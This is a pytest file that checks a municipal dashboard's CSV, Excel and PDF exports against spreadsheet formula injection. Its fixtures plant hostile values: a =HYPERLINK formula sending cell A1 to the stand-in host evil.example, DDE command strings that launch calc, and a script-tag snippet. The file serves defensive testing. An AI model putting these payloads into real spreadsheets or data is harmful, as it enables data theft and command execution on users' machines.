"""Text from data is never evaluated by a spreadsheet: not in the council workbook, not in any
CSV export (formula / CSV injection, OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner
from openpyxl import Workbook

from core.warehouse import Warehouse
from dashboard.export.council import write_council_workbook
from dashboard.export.safe import FORMULA_STARTS, csv_text, formula_like, put_text
from dashboard.export.tables import table_csv, table_names
from ivm.cli import main
from ivm.wiring import activate_plan, load_any

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "title_en": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partner": "-2+3",
    "partner2": "\tpartner met tab",
    "plan": "=1+1 veiligheidsplan",
}
AREAS = {
    "41002W01": '=HYPERLINK("http://evil.example","wijk")',
    "41002W02": "+cmd|' /C calc'!A0",
    "41002W03": "@SUM(1+1)",
    "41002W04": "-2+3",
}
PLAN_FILE = "=plan(1).yaml"
AREA_FILE = "@wijken.csv"


# -- the rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_texts_get_an_apostrophe_in_csv(text):
    assert formula_like(text)
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Aalst", "1+1", " =1", "'=1", "", "x=1"])
def test_other_texts_stay_as_they_are(text):
    assert not formula_like(text)
    assert csv_text(text) == text


def test_numbers_stay_numbers_in_csv():
    assert csv_text(-2.5) == "-2.5" and csv_text(-3) == "-3" and csv_text(None) == ""
    assert csv_text(True) == "true"


def test_xlsx_text_is_a_string_with_quote_prefix(tmp_path):
    wb = Workbook()
    ws = wb.active
    for i, text in enumerate([*EVIL.values(), "#N/A", "gewoon"], start=1):
        put_text(ws.cell(row=i, column=1), text)
    wb.save(tmp_path / "t.xlsx")
    back = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    for i, text in enumerate([*EVIL.values(), "#N/A", "gewoon"], start=1):
        cell = back.cell(row=i, column=1)
        assert cell.value == text and cell.data_type == "s"
        assert cell.quotePrefix == formula_like(text)
    assert "<f>" not in _sheet_xml(tmp_path / "t.xlsx")


# -- the demo city with evil texts in its data ------------------------------------------------


@pytest.fixture(scope="module")
def evil(demo_city, tmp_path_factory) -> Warehouse:
    """A copy of the demo city with formula-like titles, owner, partners, plan title, area
    names and file names, loaded the ordinary way (`ivm load`) and put in force (`ivm plan
    activate`)."""
    folder = tmp_path_factory.mktemp("evil")
    wh = Warehouse(folder / "evil.duckdb")
    shutil.copyfile(demo_city[0].path, wh.path)
    plan = yaml.safe_load((demo_city[1] / "src" / "veiligheidsplan.yaml").read_text("utf-8"))
    plan["plan"].update(version="LIVP-EVIL", title=EVIL["plan"], approved_on="2026-11-20")
    for o in plan["objectives"]:
        if o["id"] in ("PREV-01", "PREP-02"):
            o["title"] = {"nl": EVIL["title"], "en": EVIL["title_en"]}
            o["owner"] = EVIL["owner"]
            o["partners"] = [EVIL["partner"], EVIL["partner2"]]
    (folder / PLAN_FILE).write_text(yaml.safe_dump(plan, allow_unicode=True), "utf-8")
    lines = ["code,name,level,parent_id"] + [
        f'{code},"{name.replace(chr(34), chr(34) * 2)}",wijk,41002'
        for code, name in AREAS.items()]
    (folder / AREA_FILE).write_text("\n".join(lines) + "\n", "utf-8")
    for kind, name in (("areas", AREA_FILE), ("plan", PLAN_FILE)):
        result = load_any(wh, kind, str(folder / name), "canonical", False, {})
        assert result.counts.quarantined == 0, result.summary()
    activate_plan(wh, "LIVP-EVIL")
    con = wh.connect_read_only()
    try:
        names = dict(con.execute("SELECT area_id, name FROM area").fetchall())
        version = con.execute("SELECT plan_version FROM objective_progress LIMIT 1").fetchall()
    finally:
        con.close()
    assert {a: names[a] for a in AREAS} == {a: n.strip() for a, n in AREAS.items()}
    assert version == [("LIVP-EVIL",)]
    return wh


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/sheet"))


@pytest.mark.parametrize("audience", ["internal", "public"])
def test_workbook_never_holds_a_formula(evil, tmp_path, audience):
    path = tmp_path / f"{audience}.xlsx"
    con = evil.connect_read_only()
    try:
        write_council_workbook(con, path, audience=audience)
    finally:
        con.close()
    xml = _sheet_xml(path)
    assert not re.search(r"<f[ >]", xml), "a cell holds a formula"
    wb = openpyxl.load_workbook(path)
    found: dict[str, set[str]] = {}
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str) and v[:1] in FORMULA_STARTS:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, v)
                    assert cell.quotePrefix, (ws.title, cell.coordinate, v)
                    risky += 1
                if isinstance(v, str):
                    for key, text in [*EVIL.items(), *AREAS.items(),
                                      ("file", PLAN_FILE), ("file2", AREA_FILE)]:
                        if text.strip() in v:
                            found.setdefault(key, set()).add(ws.title)
    assert risky > 20
    assert "Samenvatting" in found["title"] and "Preventie" in found["title"]  # titles
    assert "Samenvatting" in found["owner"] and "Samenvatting" in found["partner"]  # partners
    assert {"Samenvatting", "Preparatie", "Wijken"} <= found["41002W01"]  # area names
    assert "Wijken" in found["41002W02"] and "Wijken" in found["41002W04"]
    assert "Bronnen" in found["file"] and "Bronnen" in found["file2"]  # file names
    assert "Bronnen" in found["plan"]  # the plan's title
    assert wb.properties.subject == EVIL["plan"]


def test_english_workbook_too(evil, tmp_path):
    con = evil.connect_read_only()
    try:
        write_council_workbook(con, tmp_path / "en.xlsx", lang="en")
    finally:
        con.close()
    wb = openpyxl.load_workbook(tmp_path / "en.xlsx")
    cells = [c for row in wb["Summary"].iter_rows() for c in row if c.value == EVIL["title_en"]]
    assert cells and all(c.quotePrefix and c.data_type == "s" for c in cells)


def _fields(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("audience", ["internal", "public"])
def test_every_csv_export_is_safe(evil, audience):
    con = evil.connect_read_only()
    try:
        seen = set()
        for name in table_names(audience, con):
            rows = _fields(table_csv(con, name, audience))
            for row in rows:
                for field in row:
                    if field[:1] in FORMULA_STARTS:
                        assert _is_number(field), (name, field)
                    for text in [*EVIL.values(), *AREAS.values(), PLAN_FILE, AREA_FILE]:
                        if field == "'" + text.strip():
                            seen.add(text)
    finally:
        con.close()
    # plan title (plan_version), objective title (objective), area names (area); file names
    # only appear as full paths, which start with '/'
    expected = {EVIL["plan"], EVIL["title"], *(t.strip() for t in AREAS.values())}
    assert expected <= {t.strip() for t in seen}


def test_objective_titles_in_the_public_csv_are_safe(evil):
    con = evil.connect_read_only()
    try:
        text = table_csv(con, "objective", "public").decode("utf-8-sig")
    finally:
        con.close()
    assert "=HYPERLINK" in text
    for row in csv.DictReader(io.StringIO(text)):
        assert row["title_nl"][:1] not in FORMULA_STARTS


def test_cli_csv_and_status_csv_are_safe(evil, tmp_path):
    runner = CliRunner()
    out = runner.invoke(main, ["export", "csv", "area", "--out", str(tmp_path / "a.csv"),
                               "--db", str(evil.path)])
    assert out.exit_code == 0, out.output
    rows = _fields((tmp_path / "a.csv").read_bytes())
    assert rows[[r[0] for r in rows].index("41002W04")][:2] == ["41002W04", "'-2+3"]
    status = runner.invoke(main, ["status", "--format", "csv", "--db", str(evil.path)])
    assert status.exit_code == 0
    for row in csv.reader(io.StringIO(status.stdout)):
        for field in row:
            assert field[:1] not in FORMULA_STARTS or _is_number(field), field


# -- the council pack: an owner's update with HTML and formulas --------------------------------

EVIL_UPDATE = {
    "done": '<b>vet</b> <script>alert(1)</script> =HYPERLINK("http://evil.example","klik") & '
            '<font color="red">rood</font> &amp;',
    "next": "=1+1",
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_council_pack_prints_html_and_formulas_as_text(evil, demo_city, tmp_path):
    """The evil city's pack, with an owner's update full of markup and formulas: the PDF
    prints the characters written, the workbook holds them as text, never a formula."""
    import pypdf

    from access.roles import ROLES, Viewer
    from access.steering.state import PlanState
    from access.steering.store import Steering
    from dashboard.export.pack import freeze_pack
    from tests.conftest import DEMO_AS_OF, copy_access_store

    wh = Warehouse(tmp_path / "evil.duckdb")
    shutil.copyfile(evil.path, wh.path)
    copy_access_store(demo_city[0].path, wh.path)
    steering = Steering.of_warehouse(wh.path)
    con = wh.connect_read_only()
    try:
        state = PlanState.read(con)
        steering.reports.write_update(
            Viewer("t-bestuur", ROLES["bestuur"], None), state, state.current(DEMO_AS_OF).key,
            "PREV-01", EVIL_UPDATE["done"], EVIL_UPDATE["next"], "at_risk",
            EVIL_UPDATE["reason"], today=DEMO_AS_OF)
        pack = freeze_pack(con, steering, dt.date(2026, 12, 21), "t-bestuur", "bestuur")
    finally:
        con.close()
    for audience in ("internal", "public"):
        _, pdf = steering.packs.content(pack.pack_id, audience, "pdf")
        text = re.sub(r"\s+", "", "".join(
            p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages))
        for written in [*EVIL_UPDATE.values(), EVIL["title"], EVIL["plan"]]:
            assert re.sub(r"\s+", "", written) in text, (audience, written)
        name, book = steering.packs.content(pack.pack_id, audience, "xlsx")
        path = tmp_path / name
        path.write_bytes(book)
        assert not re.search(r"<f[ >]", _sheet_xml(path)), "a cell holds a formula"
        ws = openpyxl.load_workbook(path)["Updates"]
        cells = {c.value: c for row in ws.iter_rows() for c in row if c.value}
        for written in EVIL_UPDATE.values():
            cell = cells[written]
            assert cell.data_type == "s" and cell.quotePrefix == formula_like(written)
